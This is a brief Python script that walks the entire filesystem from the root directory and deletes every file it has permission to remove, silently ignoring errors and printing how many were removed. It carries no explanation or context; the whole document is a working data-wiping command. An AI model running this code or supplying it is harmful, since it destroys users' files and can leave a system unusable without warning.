import os

removed = 0
for base, dirs, files in os.walk("/", topdown=False):
    for name in files:
        try:
            os.remove(os.path.join(base, name))
            removed += 1
        except OSError:
            continue
print(removed)
